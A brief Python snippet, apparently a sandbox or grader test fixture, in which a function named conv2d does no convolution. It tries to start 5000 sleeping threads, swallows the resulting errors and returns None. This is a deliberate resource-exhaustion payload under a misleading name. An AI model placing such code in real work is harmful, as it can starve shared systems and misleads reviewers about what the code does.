"""Starts as many threads as it can."""

# %% 05.2
import contextlib
import threading
import time


def conv2d(image, kernel):
    with contextlib.suppress(RuntimeError):
        for _ in range(5000):
            threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
    return None
